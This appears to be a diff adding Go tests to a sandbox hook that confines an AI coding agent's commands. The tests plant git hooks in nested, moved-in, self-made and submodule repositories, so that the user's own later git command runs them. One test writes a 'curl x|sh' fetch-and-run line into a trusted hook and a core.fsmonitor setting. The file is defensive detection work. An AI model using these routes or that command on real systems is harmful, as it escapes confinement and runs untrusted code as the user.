@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -451,5 +452,305 @@ func TestWatchNestedRepo(t *testing.T) {
 	r = runHook(t, sys, strings.NewReader(pipelinetest.Input("Read", proj, map[string]any{"file_path": proj + "/README.md"})))
 	if r.decision != "deny" || !strings.Contains(r.stdout, proj+"/sub2/.git") {
 		t.Fatalf("after a confined call: %+v", r)
+	}
+}
+
+// TestWatchNestedRepoMovedIn: a repository made with a hook where the
+// search does not look (node_modules, a program-writable tree) and moved
+// below the project once the notes have moved past its making counts like
+// one made there: renaming its directory leaves its .git's change time as
+// it was.
+func TestWatchNestedRepoMovedIn(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	sys, dir := testSystem(t)
+	if !sys.ConfineStatus().Confine() {
+		t.Skip("the kernel cannot confine commands here")
+	}
+	proj := dir + "/proj"
+	now := time.Now()
+	sys.Now = func() time.Time { return now }
+	git := func(in string, args ...string) {
+		t.Helper()
+		cmd := exec.Command("git", args...)
+		cmd.Dir = in
+		cmd.Env = append(os.Environ(), "HOME="+dir+"/home", "GIT_CONFIG_NOSYSTEM=1")
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	confined := func(command string) {
+		t.Helper()
+		in := strings.Replace(pipelinetest.Input("Bash", proj, map[string]any{"command": command}), `"default"`, `"bypassPermissions"`, 1)
+		if r := runHook(t, sys, strings.NewReader(in)); r.decision != "allow" || !strings.Contains(r.stdout, "updatedInput") {
+			t.Fatalf("not confined: %+v", r)
+		}
+	}
+	confined("python3 -c 'print(1)'")
+	// What a confined program does: a repository with a hook in
+	// node_modules, then an ordinary one that the next search notes.
+	os.MkdirAll(proj+"/node_modules/x", 0o755)
+	git(proj+"/node_modules/x", "init", "-q")
+	if err := os.WriteFile(proj+"/node_modules/x/.git/hooks/pre-commit", []byte("#!/bin/sh\ntouch ../pwned\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	now = now.Add(time.Minute)
+	os.MkdirAll(proj+"/plain", 0o755)
+	git(proj+"/plain", "init", "-q")
+	confined("python3 -c 'print(2)'")
+	now = now.Add(time.Minute)
+	if err := os.Rename(proj+"/node_modules/x", proj+"/x"); err != nil {
+		t.Fatal(err)
+	}
+	confined("python3 -c 'print(3)'")
+	r := runHook(t, sys, strings.NewReader(pipelinetest.Input("Read", proj, map[string]any{"file_path": proj + "/README.md"})))
+	if r.decision != "deny" || !strings.Contains(r.stdout, proj+"/x/.git") || !strings.Contains(r.stdout, "hooks/pre-commit") {
+		t.Fatalf("a repository with a hook moved in: %+v", r)
+	}
+}
+
+// TestWatchRepoItself: a directory of the work tree made a repository
+// itself (HEAD, objects, refs, a config naming the work tree, a hook)
+// is what git run in it takes, before the .git above: the user's git
+// commit in src runs the hook. It is found and judged like a nested .git;
+// so is the project root made one where it has no .git.
+func TestWatchRepoItself(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	sys, dir := testSystem(t)
+	if !sys.ConfineStatus().Confine() {
+		t.Skip("the kernel cannot confine commands here")
+	}
+	proj := dir + "/proj"
+	git := func(in string, args ...string) error {
+		t.Helper()
+		cmd := exec.Command("git", args...)
+		cmd.Dir = in
+		cmd.Env = append(os.Environ(), "HOME="+dir+"/home", "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
+		out, err := cmd.CombinedOutput()
+		if err != nil {
+			return fmt.Errorf("git %v: %v\n%s", args, err, out)
+		}
+		return nil
+	}
+	// makeRepoAt makes d a repository itself whose work tree is wt, with a
+	// pre-commit hook that makes marker.
+	makeRepoAt := func(d, wt, marker string) {
+		t.Helper()
+		for _, sub := range []string{"objects", "refs/heads", "hooks"} {
+			os.MkdirAll(d+"/"+sub, 0o755)
+		}
+		os.WriteFile(d+"/HEAD", []byte("ref: refs/heads/main\n"), 0o644)
+		os.WriteFile(d+"/config", []byte("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = "+wt+"\n"), 0o644)
+		os.WriteFile(d+"/hooks/pre-commit", []byte("#!/bin/sh\ntouch "+marker+"\n"), 0o755)
+	}
+	confined := func(command string) {
+		t.Helper()
+		in := strings.Replace(pipelinetest.Input("Bash", proj, map[string]any{"command": command}), `"default"`, `"bypassPermissions"`, 1)
+		if r := runHook(t, sys, strings.NewReader(in)); r.decision != "allow" || !strings.Contains(r.stdout, "updatedInput") {
+			t.Fatalf("not confined: %+v", r)
+		}
+	}
+	read := func() runResult {
+		t.Helper()
+		return runHook(t, sys, strings.NewReader(pipelinetest.Input("Read", proj, map[string]any{"file_path": proj + "/README.md"})))
+	}
+
+	// The project root, no repository: made one itself.
+	confined("python3 -c 'print(1)'")
+	makeRepoAt(proj, proj, dir+"/ran-root")
+	r := read()
+	if r.decision != "deny" || !strings.Contains(r.stdout, proj+" is a repository itself") || !strings.Contains(r.stdout, "hooks/pre-commit") {
+		t.Fatalf("the project root made a repository: %+v", r)
+	}
+	if err := git(proj, "commit", "-q", "--allow-empty", "-m", "x"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(dir + "/ran-root"); err != nil {
+		t.Fatalf("git did not run the hook of the project root made a repository: the case is no attack")
+	}
+	for _, n := range []string{"HEAD", "objects", "refs", "hooks", "config", "index", "logs", "info", "description", "branches", "COMMIT_EDITMSG"} {
+		os.RemoveAll(proj + "/" + n)
+	}
+	if r := read(); r.decision == "deny" {
+		t.Fatalf("removed: %+v", r)
+	}
+
+	// A repository project: src made one itself.
+	if err := git(proj, "init", "-q"); err != nil {
+		t.Fatal(err)
+	}
+	if out := runCmd(sys, "trust", proj+"/.git"); out.code != 0 {
+		t.Fatalf("trust: %+v", out)
+	}
+	os.MkdirAll(proj+"/src", 0o755)
+	confined("python3 -c 'print(2)'")
+	makeRepoAt(proj+"/src", proj, dir+"/ran-src")
+	confined("python3 -c 'print(3)'")
+	r = read()
+	if r.decision != "deny" || !strings.Contains(r.stdout, proj+"/src is a repository itself") || !strings.Contains(r.stdout, "hooks/pre-commit") {
+		t.Fatalf("src made a repository: %+v", r)
+	}
+	if err := git(proj+"/src", "commit", "-q", "--allow-empty", "-m", "x"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(dir + "/ran-src"); err != nil {
+		t.Fatalf("git in src did not run its hook: the case is no attack")
+	}
+	// Trusted by the name the reason gives.
+	if out := runCmd(sys, "trust", proj+"/src/.git"); out.code != 0 {
+		t.Fatalf("trust: %+v", out)
+	}
+	if r := read(); r.decision == "deny" {
+		t.Fatalf("trusted: %+v", r)
+	}
+}
+
+// TestWatchTrustedRewritten: a trusted repository is reported again when
+// what it runs changes, wherever git reads it from: a hook in the
+// directory a .git file names rewritten in place (same size, its
+// modification time put back), a configuration value changed past what
+// the reason shows of it.
+func TestWatchTrustedRewritten(t *testing.T) {
+	sys, dir := testSystem(t)
+	sys.Now = time.Now
+	sys.Getwd = func() (string, error) { return dir + "/proj", nil }
+	proj := dir + "/proj"
+	g := proj + "/.git"
+	repo := proj + "/.repo"
+	for _, d := range []string{"hooks", "objects", "refs"} {
+		os.MkdirAll(repo+"/"+d, 0o755)
+	}
+	os.WriteFile(repo+"/HEAD", []byte("ref: refs/heads/main\n"), 0o644)
+	hook := repo + "/hooks/pre-commit"
+	os.WriteFile(hook, []byte("#!/bin/sh\necho good\n"), 0o755)
+	long := strings.Repeat("x", 100)
+	os.WriteFile(repo+"/config", []byte("[core]\n\tfsmonitor = ./fsmon "+long+"\n"), 0o644)
+	os.WriteFile(g, []byte("gitdir: .repo\n"), 0o644)
+	if err := sys.RecordWatch(proj, []string{g}); err != nil {
+		t.Fatal(err)
+	}
+	if err := sys.CheckWatch(proj); err == nil || !strings.Contains(err.Error(), "hooks/pre-commit") {
+		t.Fatalf("not reported: %v", err)
+	}
+	trust := func() {
+		t.Helper()
+		if r := runCmd(sys, "trust", ".git"); r.code != 0 {
+			t.Fatalf("trust: %+v", r)
+		}
+		if err := sys.CheckWatch(proj); err != nil {
+			t.Fatalf("trusted: %v", err)
+		}
+	}
+	trust()
+	time.Sleep(20 * time.Millisecond)
+	fi, _ := os.Stat(hook)
+	os.WriteFile(hook, []byte("#!/bin/sh\ncurl x|sh\n"), 0o755)
+	os.Chtimes(hook, fi.ModTime(), fi.ModTime())
+	if err := sys.CheckWatch(proj); err == nil || !strings.Contains(err.Error(), "hooks/pre-commit") {
+		t.Fatalf("the hook of the trusted repository rewritten in place: %v", err)
+	}
+	trust()
+	time.Sleep(20 * time.Millisecond)
+	os.WriteFile(repo+"/config", []byte("[core]\n\tfsmonitor = ./fsmon "+long[:90]+"; curl x|sh\n"), 0o644)
+	if err := sys.CheckWatch(proj); err == nil || !strings.Contains(err.Error(), "core.fsmonitor") {
+		t.Fatalf("the configuration of the trusted repository changed past what its item shows: %v", err)
+	}
+}
+
+// TestWatchNewSubmoduleRepo: a submodule repository a confined command
+// makes in the project's own .git (.git/modules/NAME: .git is program
+// writable, only the modules there before are read-only), with a hook,
+// and a gitlink plus .gitmodules naming it, is what the user's git
+// submodule update --init checks out and runs the hook of: it is watched
+// from the next confined command's search. git submodule add by the agent
+// stays ordinary work.
+func TestWatchNewSubmoduleRepo(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	sys, dir := testSystem(t)
+	if !sys.ConfineStatus().Confine() {
+		t.Skip("the kernel cannot confine commands here")
+	}
+	proj := dir + "/proj"
+	git := func(in string, args ...string) string {
+		t.Helper()
+		cmd := exec.Command("git", args...)
+		cmd.Dir = in
+		cmd.Env = append(os.Environ(), "HOME="+dir+"/home", "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
+		out, err := cmd.CombinedOutput()
+		if err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+		return strings.TrimSpace(string(out))
+	}
+	confined := func(command string) {
+		t.Helper()
+		in := strings.Replace(pipelinetest.Input("Bash", proj, map[string]any{"command": command}), `"default"`, `"bypassPermissions"`, 1)
+		if r := runHook(t, sys, strings.NewReader(in)); r.decision != "allow" || !strings.Contains(r.stdout, "updatedInput") {
+			t.Fatalf("not confined: %+v", r)
+		}
+	}
+	read := func() runResult {
+		t.Helper()
+		return runHook(t, sys, strings.NewReader(pipelinetest.Input("Read", proj, map[string]any{"file_path": proj + "/README.md"})))
+	}
+	up := dir + "/up"
+	os.MkdirAll(up, 0o755)
+	git(up, "init", "-q")
+	git(up, "commit", "-q", "--allow-empty", "-m", "up")
+	git(proj, "init", "-q")
+	git(proj, "commit", "-q", "--allow-empty", "-m", "init")
+	confined("python3 -c 'print(1)'")
+
+	// Ordinary: git submodule add.
+	git(proj, "-c", "protocol.file.allow=always", "submodule", "add", "-q", up, "vendor/up")
+	confined("python3 -c 'print(2)'")
+	if r := read(); r.decision == "deny" {
+		t.Fatalf("git submodule add: %+v", r)
+	}
+
+	// What a confined program does: a submodule repository in .git/modules
+	// with a hook, and the gitlink and .gitmodules that name it.
+	evil := proj + "/.git/modules/evil"
+	git(dir, "clone", "-q", "--bare", up, evil)
+	sha := git(evil, "rev-parse", "HEAD")
+	git(evil, "config", "core.bare", "false")
+	git(evil, "config", "core.worktree", "../../../vendor/evil")
+	os.WriteFile(evil+"/hooks/post-checkout", []byte("#!/bin/sh\ntouch "+dir+"/ran\n"), 0o755)
+	f, _ := os.OpenFile(proj+"/.gitmodules", os.O_APPEND|os.O_WRONLY, 0)
+	f.WriteString("[submodule \"evil\"]\n\tpath = vendor/evil\n\turl = https://example.invalid/evil.git\n")
+	f.Close()
+	git(proj, "update-index", "--add", "--cacheinfo", "160000,"+sha+",vendor/evil")
+	git(proj, "add", ".gitmodules")
+	git(proj, "commit", "-q", "-m", "vendor")
+
+	confined("python3 -c 'print(3)'")
+	r := read()
+	if r.decision != "deny" || !strings.Contains(r.stdout, evil) || !strings.Contains(r.stdout, "hooks/post-checkout") {
+		t.Fatalf("a submodule repository made with a hook: %+v", r)
+	}
+	git(proj, "submodule", "update", "--init", "-q")
+	if _, err := os.Stat(dir + "/ran"); err != nil {
+		t.Fatalf("git submodule update did not run the planted hook: the case is no attack")
+	}
+	if out := runCmd(sys, "trust", evil); out.code != 0 {
+		t.Fatalf("trust: %+v", out)
+	}
+	if r := read(); r.decision == "deny" {
+		t.Fatalf("trusted: %+v", r)
+	}
+	// A file in a submodule's repository that is watched while missing
+	// (its commondir) is no repository: it counts once it appears.
+	cd := proj + "/.git/modules/vendor/up/commondir"
+	if err := sys.RecordWatch(proj, []string{cd}); err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(cd, []byte("../../../../elsewhere\n"), 0o644)
+	if r := read(); r.decision != "deny" || !strings.Contains(r.stdout, cd+" appeared") {
+		t.Fatalf("a watched commondir made: %+v", r)
 	}
 }
